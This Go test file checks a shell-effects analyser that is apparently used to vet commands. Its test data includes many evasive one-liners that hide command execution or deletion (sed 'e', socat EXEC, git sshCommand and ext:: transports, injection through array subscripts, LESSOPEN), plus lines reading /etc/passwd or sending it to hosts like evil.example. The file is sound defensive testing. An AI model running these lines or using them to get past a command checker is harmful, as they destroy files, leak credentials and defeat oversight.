package effects_test

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/toolroom/toolroom"
	"github.com/toolroom/toolroom/internal/effects"
)

// later are lines that ran rm, or a program of their own, without being seen to.
var later = []string{
	"sed -f x y",
	"sed -e p -e '1e rm V' f",
	"sed --expression='1e rm V' f",
	"sed '/x/e rm V\ns/a/b/' f",
	"sed \"$X\" f",
	"gawk -E p",
	"gawk -tf p",
	"mawk -We p",
	"tar cIf 'rm V' x.tar f",
	"tar xFf 'rm V' x.tar",
	"install -s --strip-program=/tmp/x a b",
	"fd -Hx rm V",
	"fd -xrm V",
	"ncat --sh-exec 'rm V' h 1",
	"socat 'STDIO!!EXEC:rm V' -",
	"socat SHELL:'rm V' -",
	"wget -e use_askpass=/tmp/x http://h",
	"git clone -c core.sshCommand='rm V' ssh://h/x",
	"git clone --config core.sshCommand='rm V' ssh://h/x",
	"sqlite3 -init x db 'select 1'",
	"echo '.shell rm V' | sqlite3 x",
	"sqlite3 x \"select edit('a','rm V')\"",
	"echo '\\! rm V' | psql",
	"psql -f x",
	"psql -c 'select 1' -f x",
	"psql -c \"\\copy t to program 'rm V'\"",
	"psql -o '|rm V' -c 'select 1'",
	"mysql -e 'system rm V'",
	"echo '!rm V' | sftp h",
	"sftp -b x h",
	"scp -F x y h:",
	"sftp -D 'rm V'",
	"ssh -I /tmp/x.so h ls",
	"echo 'rm V' | ssh h",
	"mosh --ssh='rm V' h",
	"echo '!rm V' | telnet",
	"echo '!rm V' | ftp -n",
	"openssl list -provider-path /tmp -provider x",
	"command export PATH=/tmp; ls",
	"\\export PATH=/tmp; ls",
	"\"export\" LD_PRELOAD=/tmp/x.so; ls",
	"printf -v PATH /tmp; ls",
	"read PATH <<< /tmp; ls",
	"for PATH in /tmp; do ls; done",
	"exec {PATH}>x; ls",
	"X=ls; \\eval X=rm; $X V",
	"X=ls; trap 'X=rm' DEBUG; $X V",
	"X=ls; {read,X} <<< rm; $X V",
	"X=ls; \\read X <<< rm; $X V",
	"_=ls; true rm; $_ V",
	"BASH_REMATCH=ls; [[ rm =~ .* ]]; $BASH_REMATCH V",
	"env -a echo rm V",
	"echo rm | xargs -I echo echo V",
	"echo '. -exec rm {} +' | xargs find",
	"find $X -name y",
	"sort $X",
	"tar cf x *",
	"sort *",
	"su root echo",
	"su -s /bin/rm root V",
	"screen -c rc ls",
	"bash <<'E'\necho \"\\\\$(rm V)\"\nE",
	"bash <<'E' < evil.sh\necho hi\nE",
	"echo 'rm V' | bash 3<<E\necho hi\nE",
	"python3 -W --version evil.py",
	"perl -I --version evil.pl",
	"echo 'exec rm V' | tclsh -V",
	"fish -c \"echo '\\\\'; : '; rm V #'\"",
	"zsh -c \"echo *(e:'rm V':)\"",
	"pwsh -c 'echo \"\\\"; rm V; \"\\\"\"'",
	"x='a['; y='$(rm V)]'; echo ${z[$x$y]}",
	"x='a['; y='$(rm V)]'; echo ${z:$x$y}",
	"x='a['; y='$(rm V)]'; z[$x$y]=1",
	"x='a['; y='$(rm V)]'; test -v \"$x$y\"",
	"x='a['; y='$(rm V)]'; [[ -v $x$y ]]",
	"x='a['; y='$(rm V)]'; printf -v \"$x$y\" z",
	"x='a['; y='$(rm V)]'; read \"$x$y\" <<< 1",
	"x='a['; y='$(rm V)]'; declare \"$x$y=1\"",
	"LESSOPEN='|rm V' less x",
	"LESS='+!rm V' less x",
	"RSYNC_CONNECT_PROG='rm V' rsync h::x .",
	"SSH_ASKPASS=/tmp/x SSH_ASKPASS_REQUIRE=force ssh h ls",
	"RIPGREP_CONFIG_PATH=c rg x",
	"GCONV_PATH=/tmp iconv -f X x",
	"OPENSSL_CONF=/tmp/x curl https://h",
	"[[ a || reboot ]]",
	"echo \"${ rm V;}\"",
	"rg --pre=x y",
	"bat --pager='rm V' x",
	"less -k x y",
	"less --lesskey-content='x' y",
	"crontab x",
	"tee >(rm V) < x",
	"set -- rm V; \"$@\"",
	"exec -c rm V",
	"nice --adjustment 5 rm V",
	"ionice -t rm V",
	"time -v rm V",
	"timeout --preserve-status 5 rm V",
	"stdbuf --output=L rm V",
	"xargs --process-slot-var=X rm",
	"xargs -o rm",
	"find -O3 /etc -delete -exec rm {} +",
	"git log --exec-path=/tmp",
	"git --exec-path /tmp log",
	"git fetch ext::sh\\ -c\\ x",
	"git remote add a 'ext::sh -c rm'",
	"git pull 'ext::sh -c rm% V'",
	"git clone --upload-pack='rm V' x y",
	"git clone -uX y",
	"git --config-env=alias.x=Y x",
	"tar --use=x -xf y",
	"dirname $(rm V)",
	"f() { X=rm; }; X=ls; f; $X V",
	"X=ls; alias a='X=rm'; a; $X V",
	"set -- rm; X=ls; for X in rm; do $X V; done",
	"env -C /tmp ./x",
	"X=ls; getopts rm X; $X V",
	"wget --use-ask=/tmp/x http://h",
	"sed -ne '1e rm V' f",
	"sed -s --express '1e rm V' f",
	"awk -vx=1 -f p f",
	"command declare -i x=a",
	"rsync --daemon --config=x",
	"git clone -c x=y z",
	"mysql -e 'select 1' --init-command='x'",
	"duckdb -init x",
	"find -D exec $X",
	"declare -n Y=X",
	"unset PATH; ls",
}

// TestFilesAndHostsAreSeenOrUnknown: each line uses what follows it, or something that is not
// known.
func TestFilesAndHostsAreSeenOrUnknown(t *testing.T) {
	t.Parallel()
	for text, want := range map[string]string{
		"env -C /etc cat passwd":                               "file.read:",
		"sudo -D /etc cat passwd":                              "file.read:",
		"sudo --chdir=/etc cat passwd":                         "file.read:",
		"find /etc -execdir cat passwd ';'":                    "file.read:",
		"cd ~root; cat x":                                      "file.read:",
		"f() { cat passwd; }; cd /etc; f":                      "file.read:/etc/passwd",
		"trap 'cat passwd' EXIT; cd /etc":                      "file.read:/etc/passwd",
		"for i in 1 2; do builtin cd ..; done; cat x":          "file.read:",
		"PWD=x; cd /etc; cat $PWD/passwd":                      "file.read:",
		"cat $'/etc/\\x{70}asswd'":                             "file.read:",
		"find -O3 /etc -delete":                                "file.delete:/etc",
		"find -D exec etc -delete":                             "file.delete:/work/etc",
		"find -- /etc -delete":                                 "file.delete:/etc",
		"find -files0-from x -delete":                          "file:",
		"sort --files0-from=-":                                 "file:",
		"sort -o /etc/x y":                                     "file:/etc/x",
		"uniq a /etc/x":                                        "file:/etc/x",
		"sed --in-pl s/a/b/ /etc/x":                            "file.write:/etc/x",
		"sed 'w /etc/x' y":                                     "file:",
		"awk 'BEGIN{ARGV[1]=\"/etc/passwd\"; ARGC=2} {print}'": "command:",
		"patch < x":                                            "file:",
		"rsync -a --delete a/ /etc/":                           "file.delete:/etc/",
		"rsync --remove-source-files /etc/x /y":                "file.delete:/etc/x",
		"cp $X":                                                "file:",
		"echo x > 5":                                           "file.write:/work/5",
		"/usr/bin/time -o /etc/x true":                         "file.write:",
		"flock /etc/x true":                                    "file.write:/etc/x",
		"chroot /x cat /y":                                     "file:",
		"curl -F 'a=</etc/passwd' h":                           "file.read:/etc/passwd",
		"curl -H @/etc/passwd h":                               "file.read:/etc/passwd",
		"curl -w @/etc/passwd h":                               "file.read:/etc/passwd",
		"curl -b /etc/passwd h":                                "file.read:/etc/passwd",
		"curl --output-dir /etc -O h/x":                        "file:",
		"curl --trace /etc/x h":                                "file:",
		"curl -Os evil.example/x":                              "file.write:/work/x",
		"curl $X":                                              "file:",
		"wget http://h/x -P /etc":                              "file.write:/etc",
		"wget http://h/x":                                      "file.write:/work/x",
		"wget -d http://evil.example/":                         "host.get:evil.example:80",
		"wget -E http://evil.example/":                         "host.get:evil.example:80",
		"wget --input-file=x":                                  "host:",
		"http -b http://evil.example/":                         "host:",
		"git clone https://evil.example/x":                     "host.connect:",
		"git push":                                             "host.connect:",
		"git remote update":                                    "host.connect:",
		"git archive --remote=h x":                             "host.connect:",
		"git add a":                                            "file.read:/work/a",
		"git add -A":                                           "file.read:/work",
		"git add ':(top)a'":                                    "file.read:/work",
		"git add '*.key'":                                      "file.read:/work",
		"git add --pathspec-from-file=x a":                     "file.read:/work",
		"git rm a":                                             "file.delete:/work/a",
		"git rm --cached --pathspec-from-file x":               "file.delete:/work",
		"git mv a b":                                           "file.write:/work/b",
		"git clean -fd -e keep":                                "file.delete:/work",
		"git checkout main":                                    "file.delete:/work",
		"git checkout -b x":                                    "file.write:/work",
		"git restore a":                                        "file.write:/work",
		"git reset --hard":                                     "file.delete:/work",
		"git diff":                                             "file.read:/work",
		"git pull":                                             "file.write:/work",
		"git init":                                             "file.write:/work/.",
		"git clone https://h/x y":                              "file.write:/work/y",
		"git -C /x clean -f":                                   "file.delete:/x",
		"git -C x -C y clean -f":                               "file.delete:/work/x/y",
		"git -C $X clean -f":                                   "file.delete:",
		"git -C ~bob clean -f":                                 "file.delete:",
		"git --work-tree /x clean -f":                          "file.delete:/x",
		"git --work-tree=/x clean -f":                          "file.delete:/x",
		"cd $X; git clean -f":                                  "file.delete:",
		"git rm --cached --no-cached a":                        "file.delete:/work/a",
		"git rm --ignore-unmatch a -- --cached":                "file.delete:/work/a",
		"git --icase-pathspecs rm A":                           "file.delete:/work",
		"git add -A --chmod +x":                                "file.read:/work",
		"git checkout -f -b x":                                 "file.delete:/work",
		"git checkout -b x -f":                                 "file.delete:/work",
		"git checkout HEAD -- a -b":                            "file.delete:/work",
		"git checkout -b x other":                              "file.delete:/work",
		"git switch -qf main":                                  "file.delete:/work",
		"git switch --discard-changes main":                    "file.delete:/work",
		"git stash -u":                                         "file.delete:/work",
		"git stash drop":                                       "file.delete:/work",
		"git merge --abort":                                    "file.delete:/work",
		"git worktree remove -f x":                             "file.delete:",
		"git --work-tree=/work/x rm a":                         "file.delete:/work/x",
		"git --work-tree=y -C x rm a":                          "file.delete:/work/x/y",
		"git diff --no-index --output x a b":                   "file.write:",
		"git log --output=x":                                   "file.write:",
		"git archive -o x HEAD":                                "file.write:",
		"git archive --add-file a HEAD":                        "file.read:/work",
		"git tag -F a x":                                       "file.read:/work",
		"sftp evil.example":                                    "host:",
		"ssh -W evil.example:1 h x":                            "host.connect:",
		"tar cf evil.example:x y":                              "host.connect:",
		"psql -h evil.example -c 'select 1'":                   "host.connect:",
		"duckdb -c \"select * from '/etc/passwd'\"":            "file:",
		"cat < /dev/tcp/$H/80":                                 "host.connect:",
		"openssl enc -in passwd":                               "file:",
	} {
		if got := shellLines(effects.ReadShell(text, "/work")); !slices.Contains(got, want) {
			t.Errorf("%q is read as %q, want %q among them", text, got, want)
		}
	}
}

// TestWhatIsPlainStaysKnown: lines that people write every day are not taken for any command.
func TestWhatIsPlainStaysKnown(t *testing.T) {
	t.Parallel()
	for _, text := range strings.Split(strings.TrimSpace(`
sed -n 1,20p f
sed -n '10,$p' f
sed -i s/a/b/g f
sed -i.bak 's|a/b|c|' f
sed -e 's/a\/b/c/' -e '/x/d' f
awk -F: '{print $1}' /etc/passwd
awk -v n=3 'NR==n {print $2}' f
find . -type f -name '*.go'
find src -newer x | head -5
grep -rn "foo bar" src | sort | uniq -c
sort -t, -k2 -n f
curl -sSL https://example.com -o f
curl -fsS -H 'Accept: x' -X POST -d a=b https://example.com
wget -qO- https://example.com
git status --short
git log --oneline -5
git commit -m 'a message'
git push origin main
tar czf x.tgz dir
tar -xzf x.tgz -C dir
rsync -a a/ b/
cp -r a b
export A=1; echo $A
for f in a b; do cat $f; done
while read -r line; do echo "$line"; done < f
read -p 'Name: ' name
printf '%s\n' x
[[ -f x && -n $y ]] || echo no
[ -n "$X" ] && echo yes
sudo -u bob ls
env A=1 ls
timeout -k 1 5 ls
nice -n 5 ls
xargs -n 1 echo
bash -lc 'ls -la'
psql -h db -U u -d x -c 'select * from t'
sqlite3 -json x.db 'select * from t'
python3 --version
echo "${a[0]}" "${a[@]}" "${x:-y}"
nc -zv h.example 80
ssh h uptime`), "\n") {
		if got := effects.ReadShell(text, "/work"); slices.Contains(got, toolroom.Effect{Kind: toolroom.EffectCommand}) {
			t.Errorf("%q is read as %q", text, shellLines(got))
		}
	}
}

// A command of git that is started in a folder of a repository uses the whole work tree.
func TestGitUsesTheWholeWorkTree(t *testing.T) {
	top, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	for _, dir := range []string{".git", "a/b", "c/.git"} { // git passes over one that is not a repository
		if err := os.MkdirAll(filepath.Join(top, dir), 0o700); err != nil {
			t.Fatal(err)
		}
	}
	t.Setenv("HOME", top)
	for text, want := range map[string]string{
		"git clean -f": "file.delete:" + top, "git -C b commit -am x": "file.read:" + top, "git rm x": "file.delete:" + top + "/a/x",
		"git -C ../c stash": "file.write:" + top, "cd ~/a; git stash": "file.write:" + top,
	} {
		if got := shellLines(effects.ReadShell(text, top+"/a")); !slices.Contains(got, want) {
			t.Errorf("%q is read as %q, want %q among them", text, got, want)
		}
	}
}
